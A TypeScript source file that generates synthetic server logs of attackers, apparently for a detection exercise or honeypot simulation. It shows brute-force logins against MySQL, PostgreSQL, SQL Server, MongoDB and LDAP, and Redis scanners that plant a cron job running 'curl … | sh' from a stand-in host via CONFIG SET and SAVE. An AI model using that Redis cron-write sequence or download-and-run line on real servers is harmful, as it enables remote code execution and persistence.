/** Those who come to databases, caches and directories. */
import { binarySecret, type LogBook, MINUTE, START, secret } from '../log_book.ts'
import { random } from '../random.ts'
import { passwords } from '../words.ts'

/** MySQL answers to a challenge differ per connection, so no two secrets are equal. */
export function mysqlScanners(log: LogBook): void {
  for (const [index, src] of ['203.0.113.20', '203.0.113.21', '198.51.100.140'].entries()) {
    const dice = random(`mysql ${src}`)
    let at = START + (8 + index * 97) * MINUTE
    for (let count = 0; count < 110; count += 1) {
      const connection_id = 1000 * (index + 1) + count
      const username = dice.pick(['root', 'root', 'admin', 'mysql', 'wordpress'])
      const src_port = dice.between(1025, 65535)
      log.event(at, 'db-07', 'mysql', 'connect', { src, src_port, connection_id })
      log.event(at + 60_000, 'db-07', 'mysql', 'auth', {
        src,
        username,
        connection_id,
        principal: username,
        ...binarySecret('mysql_native_password', dice.hex(40)),
      })
      log.event(at + 90_000, 'db-07', 'mysql', 'disconnect', { src, connection_id })
      at += dice.gap(21_000)
    }
  }
}

const cronJob = '\\n\\n*/1 * * * * curl -fsSL http://203.0.113.250/i.sh | sh\\n\\n'

/** Looks for open Redis servers and plants a cron job in the one that answers. */
export function redisScanners(log: LogBook): void {
  for (const [index, src] of ['198.51.100.55', '203.0.113.60', '203.0.113.61'].entries()) {
    const dice = random(`redis ${src}`)
    let at = START + (33 + index * 120) * MINUTE
    for (let count = 0; count < 75; count += 1) {
      const say = (after: number, type: string, params = {}) =>
        log.event(at + after, 'cache-06', 'redis', type, { src, ...params })
      say(0, 'connect', { src_port: dice.between(1025, 65535) })
      if (dice.chance(30)) say(20_000, 'auth', secret(dice.pick(passwords)))
      say(40_000, 'command', { cmd: 'INFO', args: '[]' })
      if (dice.chance(20)) {
        say(80_000, 'command', { cmd: 'CONFIG', args: "['SET', 'dir', '/var/spool/cron']" })
        say(120_000, 'command', { cmd: 'SET', args: `['backup1', '${cronJob}']` })
        say(160_000, 'command', { cmd: 'SAVE', args: '[]' })
      }
      say(200_000, 'disconnect')
      at += dice.gap(55_000)
    }
  }
}

/** PostgreSQL, SQL Server, MongoDB and LDAP: one visitor each. */
export function otherDatabases(log: LogBook): void {
  const dice = random('other databases')
  let at = START + 3 * MINUTE
  for (let count = 0; count < 120; count += 1) {
    const [pg, ms, mongo, ldap] = ['203.0.113.33', '198.51.100.19', '203.0.113.90', '203.0.113.91']
    const hash = dice.hex(32)
    log.event(at, 'db-07', 'postgres', 'auth', {
      src: pg,
      username: 'postgres',
      principal: 'postgres',
      database: 'prod',
      pw_hash: `md5${hash}`,
      ...binarySecret('postgres_md5_challenge', hash),
    })
    at += dice.gap(30_000)
    const sa = { src: ms, username: 'sa', principal: 'sa', ...secret(`${dice.pick(passwords)}#`) }
    log.event(at, 'win-09', 'mssql', 'auth', sa)
    at += dice.gap(40_000)
    if (count % 3 === 0) {
      const proof = binarySecret('scram_sha256', dice.hex(64))
      const who = { src: mongo, username: 'admin', principal: 'admin', mechanism: 'SCRAM-SHA-256' }
      log.event(at, 'cache-06', 'mongodb', 'auth', { ...who, ...proof })
      const dn = `cn=${dice.pick(['admin', 'manager', 'svc'])},dc=corp,dc=local`
      const bind = { src: ldap, dn, principal: dn, ...secret(`${dice.pick(passwords)}%`) }
      log.event(at + 900_000, 'dir-08', 'ldap', 'bind', bind)
    }
    at += dice.gap(90_000)
  }
}
